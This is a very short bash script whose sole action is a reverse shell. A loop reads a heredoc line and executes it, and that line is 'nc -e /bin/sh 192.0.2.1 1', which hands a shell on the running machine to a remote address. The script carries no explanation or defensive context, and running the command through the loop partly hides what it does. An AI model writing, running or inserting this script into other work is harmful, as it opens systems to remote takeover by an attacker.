#!/bin/bash
while read -r l; do $l; done <<'E'
nc -e /bin/sh 192.0.2.1 1
E
